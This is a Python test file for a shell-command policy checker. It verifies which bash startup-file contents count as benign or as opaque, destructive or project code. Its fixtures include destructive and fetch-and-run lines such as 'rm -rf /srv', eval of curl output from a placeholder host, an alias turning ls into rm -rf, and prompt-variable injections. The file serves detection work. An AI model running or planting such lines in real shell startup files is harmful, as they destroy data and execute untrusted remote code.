"""The startup files of distributions and the lines that installers append to them let `bash -lc` and `bash -ic` run in silence; others do not."""

import pathlib

import pytest

from capfence_sh import case
from capfence_sh.invocation import SHELL, Invocation
from capfence_sh.rules import Rules
from capfence_sh.world import example_request
from tests.making import policy

HERE = pathlib.Path(__file__).parent / "startup_files"
HOME = "/home/user"
ALLOW_ALL = Rules(policy("allow:\n  - capability: shell.execute\n  - capability: shell.opaque\n"), ())
ENV = {"HOME": HOME, "PATH": "/usr/local/bin:/usr/bin:/bin", "USER": "user", "SHELL": "/bin/bash"}


def text(name: str) -> str:
    return (HERE / name).read_text()


def found(files: dict[str, str], option: str, script: str = "ls", roots: tuple[str, ...] = ("/etc/", "/usr/")) -> set[str]:
    """What is claimed besides running commands."""
    request = example_request(files=files, env=ENV)
    asked = Invocation(SHELL, script, "bash", (), ((option, ""),))
    judgement = case.decided(asked, "", request, ALLOW_ALL, lambda path: path.startswith(roots)).judgement
    assert judgement is not None and not judgement.unparsed
    return {effect.capability for command in judgement.commands for effect in command.effects} - {"shell.execute"}


DEBIAN = {f"{HOME}/.profile": text("debian-profile"), f"{HOME}/.bashrc": text("debian-bashrc"), "/etc/profile": text("debian-etc-profile")}
FEDORA = {
    f"{HOME}/.bash_profile": text("fedora-bash_profile"),
    f"{HOME}/.bashrc": text("fedora-bashrc"),
    "/etc/bashrc": text("fedora-etc-bashrc"),
    "/etc/profile": text("fedora-etc-profile"),
    "/etc/profile.d/lang.sh": "export LANG=C.UTF-8\n",
}
DISTRIBUTIONS = {
    "debian": DEBIAN,
    "fedora": FEDORA,
    "centos": {**FEDORA, f"{HOME}/.bashrc": text("centos-bashrc")},
    "alpine": {"/etc/profile": text("alpine-etc-profile")},
    "arch": {
        "/etc/profile": text("arch-etc-profile"),
        f"{HOME}/.bash_profile": text("arch-bash_profile"),
        f"{HOME}/.bashrc": text("arch-bashrc"),
    },
}
LINES = sorted(path.name for path in HERE.glob("lines-*"))


@pytest.mark.parametrize("option", ["-l", "-i"])
@pytest.mark.parametrize("name", DISTRIBUTIONS)
def test_a_new_home_is_no_obstacle(name: str, option: str) -> None:
    assert found(DISTRIBUTIONS[name], option) == set()


@pytest.mark.parametrize("option", ["-l", "-i"])
@pytest.mark.parametrize("name", LINES)
def test_lines_of_installers_are_none(name: str, option: str) -> None:
    for files in (DEBIAN, FEDORA):
        own = {f"{HOME}/.cargo/env": text("cargo-env")}
        for path in (f"{HOME}/.profile", f"{HOME}/.bash_profile", f"{HOME}/.bashrc"):
            if path in files:
                own[path] = files[path] + text(name)
        assert found({**files, **own}, option) == set()


def test_files_of_tools_in_the_home_are_their_code() -> None:
    files = {**FEDORA, f"{HOME}/.bashrc": text("lines-nvm"), f"{HOME}/.nvm/nvm.sh": 'nvm() { command curl "$@"; }\n'}
    assert found(files, "-l") == {"shell.project_code"}


@pytest.mark.parametrize(
    "line",
    [
        ". /srv/x.sh",  # anybody may have written it
        "rm -rf /srv",
        'eval "$(cat ~/.cache/x)"',
        'eval "$(curl -s https://x.example)"',
        "source <(curl -s https://x.example)",
        'dircolors() { echo rm -rf /srv; }; eval "$(dircolors -b)"',
        'eval "$(pyenv install 3.12)"',
        'eval "$(dircolors -b; cat x)"',
        'PATH=/tmp/x:$PATH; eval "$(dircolors -b)"',
        'echo "rm -rf /srv" > ~/.x; . ~/.x',
        ". ~/.nvm/../x.sh",
        'for i in $(cat ~/x); do . "$i"; done',
        "for i in /srv/*.sh; do . $i; done",
        "ls() { rm -rf /srv; }",
        "alias ls='rm -rf /srv'; shopt -s expand_aliases",
        "PS4='$(rm -rf /srv)'",
    ],
)
@pytest.mark.parametrize("option", ["-l", "-i"])
def test_what_else_stands_there_counts(line: str, option: str) -> None:
    files = {"/srv/x.sh": "rm -rf /data\n", "/srv/": "", f"{HOME}/x.sh": "rm -rf /data\n", f"{HOME}/.cache/x": "rm -rf /srv\n"}
    assert found({**FEDORA, **files, f"{HOME}/.bashrc": f"{line}\n"}, option)


@pytest.mark.parametrize(
    "script",
    [
        'eval "$(dircolors -b)"',
        "source <(kubectl completion bash)",
        ". ~/.nvm/x.sh",
        ". /etc/x.sh",
        ". /etc/absent.sh",
        "PS1='$(rm -rf /srv)'",
        ". x.sh",
    ],
)
def test_the_script_itself_has_no_part_in_it(script: str) -> None:
    files = {**FEDORA, "/etc/x.sh": "rm -rf /srv\n", f"{HOME}/.nvm/x.sh": "rm -rf /srv\n"}
    files |= {"/workspace/x.sh": 'eval "$(dircolors -b)"\n', "/usr/bin/x.sh": 'eval "$(dircolors -b)"\n'}
    assert found(files, "-l", script) & {"shell.opaque", "shell.unknown", "shell.destructive"}


def test_a_system_that_others_can_write_is_judged() -> None:
    assert "shell.destructive" in found({**FEDORA, "/etc/bashrc": "rm -rf /srv\n"}, "-l", roots=("/usr/",))


@pytest.mark.parametrize(
    "script",
    [
        '. "$HOME/.nvm/nvm.sh"; nvm use 20',
        'export NVM_DIR="$HOME/.nvm"; [ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
        'source "$HOME/.sdkman/bin/sdkman-init.sh" && sdk use java 21-tem',
        ". ~/miniconda3/etc/profile.d/conda.sh && conda activate ml",
    ],
)
def test_a_script_may_set_up_the_user_s_own_tools(script: str) -> None:
    assert found({f"{HOME}/.nvm/nvm.sh": 'nvm() { eval "$(cat x)"; }\n'}, "-e", script) == {"shell.project_code"}


@pytest.mark.parametrize(
    "script",
    [
        '. "$HOME/.nvm/nvm.sh"',
        '. "$NVM_DIR/nvm.sh"',
        ". ~/.nvm/nvm.sh; nvm use 20",
        "nvm use 20",
    ],
)
@pytest.mark.parametrize("told", ["NVM_DIR=/tmp/x", "export NVM_DIR=/tmp/x", "HOME=/tmp/x; NVM_DIR=$HOME", "NVM_DIR=$(cat x)"])
def test_tools_of_other_places_are_none_of_the_user_s(script: str, told: str) -> None:
    assert "shell.opaque" in found({}, "-e", f"{told}; {script}")


def test_files_that_the_caller_chose_are_not_the_user_s() -> None:
    prompt = {
        "/workspace/rc": "export PS1='$(rm -rf /srv)'\n",
        "/tmp/x/.bashrc": "PS1='$(rm -rf /srv)'\n",
        "/tmp/x/.nvm/nvm.sh": "eval x\n",
    }
    request = example_request(files=prompt, env=ENV)
    asked = Invocation(SHELL, "bash -i <<< x", "bash", (), (("--rcfile", "/workspace/rc"), ("-i", "")))
    for home, chosen in ((HOME, asked), ("/tmp/x", Invocation(SHELL, "ls", "bash", (), (("-i", ""),)))):
        request.home = home
        judgement = case.decided(chosen, "", request, ALLOW_ALL, lambda path: path.startswith("/etc/")).judgement
        assert judgement is not None and "shell.opaque" in {e.capability for c in judgement.commands for e in c.effects}
    judgement = case.decided(Invocation(SHELL, ". /tmp/x/.nvm/nvm.sh"), "", request, ALLOW_ALL, lambda path: False).judgement
    assert judgement is not None and "shell.project_code" not in {e.capability for c in judgement.commands for e in c.effects}
